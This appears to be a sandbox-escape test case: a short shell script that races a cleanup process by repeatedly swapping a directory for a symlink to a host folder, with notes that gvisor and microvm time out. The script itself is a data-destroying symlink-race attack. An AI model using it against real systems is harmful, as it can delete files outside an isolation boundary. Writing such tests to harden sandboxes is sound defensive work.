# Tries to win a race against whoever removes its files at the end: folders that become links to the host's and back.
# With: timeout_s=2, mem_mb=64
# gvisor, microvm: timeout
mkdir -p deep/a/b/c && touch deep/a/b/c/{1..50}
while :; do
    mv deep away && ln -s "$HOST_FOLDER" deep && rm deep && mv away deep
done
